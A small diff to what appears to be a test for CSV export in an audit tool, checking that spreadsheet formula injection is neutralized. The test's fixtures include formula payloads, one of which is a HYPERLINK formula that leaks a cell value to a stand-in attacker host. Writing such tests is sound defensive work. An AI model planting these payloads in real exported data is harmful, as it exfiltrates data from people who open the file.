@@ -118,7 +118,7 @@ describe('runcap audit', () => {
 
   it("--csv neutralizes text a spreadsheet would run as a formula (=, +, -, @, tab, CR first: quoted, prefixed with '); amounts stay plain numbers", async () => {
     // issuer names and vendor references are free text (--by, the vendor's answer); a label starts with a letter or digit
-    const issue = async (label: string, issuedBy: string) => (await h.guard.ledger.issueKey({ label, policy: { allow: ['*'] }, issuedBy })).key;
+    const issue = async (label: string, issuedBy: string) => (await h.guard.ledger.issueKey({ label, policy: { allow: ['*'] }, issuedBy, proof: h.proof })).key;
     const minus = await issue('formula-minus', '-2+3');
     const at = await issue('formula-at', '@SUM(A1:A9)');
     const eq = await issue('formula-eq', '=HYPERLINK("http://evil.example/?leak="&A1,"open")');
